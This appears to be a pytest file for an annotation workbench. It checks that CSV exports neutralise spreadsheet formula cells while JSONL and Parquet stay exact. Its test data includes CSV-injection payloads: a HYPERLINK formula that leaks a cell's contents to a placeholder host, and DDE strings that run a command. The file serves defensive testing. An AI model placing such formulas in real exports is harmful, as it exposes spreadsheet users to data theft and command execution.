"""Every CSV the workbench writes neutralises formula cells; JSONL and Parquet stay exact."""

from __future__ import annotations

import csv
import io
import json

import pandas as pd
import pytest

from annotation_store import Store
from commands import main
from common.csv_safe import csv_bytes, neutralise, to_csv
from interop.exporting import export

HOSTILE = [
    '=HYPERLINK("http://x.example/?"&A1,"x")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\tleading tab",
    "\rleading carriage return",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_starts_get_a_quote(text: str) -> None:
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("value", ["plain", "a=b", " =x", "", 3, -0.5, None])
def test_other_values_are_unchanged(value) -> None:
    assert neutralise(value) == value


def test_frame_numbers_stay_numbers_and_labels_are_neutralised() -> None:
    frame = pd.DataFrame({"=col": ["=1+1", "ok"], "n": [-1.5, 2.0]}, index=["@i", "j"])
    rows = list(csv.reader(io.StringIO(to_csv(frame, index=True))))
    assert rows == [["", "'=col", "n"], ["'@i", "'=1+1", "-1.5"], ["j", "ok", "2.0"]]
    assert csv_bytes(frame).decode("utf-8").splitlines()[1] == "'=1+1,-1.5"


@pytest.fixture
def hostile_project(sqlite_url: str) -> str:
    store = Store(sqlite_url)
    store.create_project("p", "likert", {"min": 1, "max": 5})
    ids = ["=1+2", "+x", "-y", "@z", "ok"]
    store.upsert_items(
        "p", [{"item_id": i, "fields": {"text": t}} for i, t in zip(ids, HOSTILE[:5], strict=True)]
    )
    store.import_labels(
        "p",
        [
            {"item_id": i, "annotator": a, "field": "label", "value": v, "status": "submitted"}
            for n, i in enumerate(ids)
            for a, v in (("=A", n % 5 + 1), ("B", (n + 1) % 5 + 1), ("C", n % 5 + 1))
        ],
    )
    store.import_scores(
        "p",
        [
            {"item_id": i, "evaluator": "judge", "field": "label", "value": n % 5 + 1, "run": 0}
            for n, i in enumerate(ids)
        ],
    )
    store.close()
    return sqlite_url


def test_items_export_csv_is_neutralised_jsonl_and_parquet_exact(hostile_project, tmp_path):
    store = Store(hostile_project)
    export(store, "p", "items", tmp_path / "items.csv")
    export(store, "p", "items", tmp_path / "items.jsonl")
    export(store, "p", "items", tmp_path / "items.parquet")
    store.close()
    with (tmp_path / "items.csv").open(newline="", encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    assert [r["item_id"] for r in rows] == ["'=1+2", "'+x", "'-y", "'@z", "ok"]
    assert [r["text"] for r in rows] == ["'" + t for t in HOSTILE[:5]]
    lines = (tmp_path / "items.jsonl").read_text(encoding="utf-8").splitlines()
    assert [json.loads(line)["text"] for line in lines] == HOSTILE[:5]
    parquet = pd.read_parquet(tmp_path / "items.parquet")
    assert list(parquet["text"]) == HOSTILE[:5]
    assert list(parquet["item_id"]) == ["=1+2", "+x", "-y", "@z", "ok"]


def test_audit_cli_csv_is_neutralised(hostile_project, tmp_path):
    out = tmp_path / "audit.csv"
    assert main(["--db", hostile_project, "audit", "p", "--out", str(out)]) == 0
    with out.open(newline="", encoding="utf-8") as fh:
        ids = [r["item_id"] for r in csv.DictReader(fh)]
    assert sorted(ids) == sorted(["'=1+2", "'+x", "'-y", "'@z", "ok"])


def test_report_reliability_csv_is_neutralised(hostile_project, tmp_path):
    out = tmp_path / "rep.md"
    assert (
        main(["--db", hostile_project, "report", "p", "--out", str(out), "--resamples", "20"]) == 0
    )
    with (tmp_path / "rep.reliability_label.csv").open(newline="", encoding="utf-8") as fh:
        rows = list(csv.reader(fh))
    assert "'=A" in rows[0] and "=A" not in rows[0]
    assert sorted(r[0] for r in rows[1:]) == sorted(["'=1+2", "'+x", "'-y", "'@z", "ok"])


def _raw_csv_writers(source: str) -> list[int]:
    """Lines that write CSV around common.csv_safe: ``csv.writer`` / ``csv.DictWriter``
    or a frame's own ``.to_csv(...)``."""
    import ast

    found = []
    for node in ast.walk(ast.parse(source)):
        if isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute):
            attr, owner = node.func.attr, node.func.value
            raw = (
                isinstance(owner, ast.Name)
                and owner.id == "csv"
                and attr in ("writer", "DictWriter")
            )
            if raw or attr == "to_csv":
                found.append(node.lineno)
    return found


def test_the_checker_finds_a_raw_writer() -> None:
    source = "import csv\nw = csv.DictWriter(f, ['a'])\ndf.to_csv('x.csv')\nto_csv(df, 'y')\n"
    assert _raw_csv_writers(source) == [2, 3]


def test_one_csv_writer_for_every_csv_the_workbench_writes() -> None:
    """Application code writes CSV through common/csv_safe.py only (tests, benchmarks,
    scripts and the demo data builders write fixed, trusted content)."""
    from pathlib import Path

    root = Path(__file__).resolve().parents[1]
    skip = {"tests", "bench", "scripts", "examples", "demo", "docs", "data", "build", "dist"}
    skip.add("node_modules")  # the JavaScript tools (npm ci), not the workbench's code
    found = [
        f"{path.relative_to(root)}:{line}"
        for path in root.rglob("*.py")
        if path.relative_to(root).parts[0] not in skip
        and not path.relative_to(root).parts[0].startswith(".")
        and path.relative_to(root).as_posix() != "common/csv_safe.py"
        for line in _raw_csv_writers(path.read_text("utf-8"))
    ]
    assert found == []
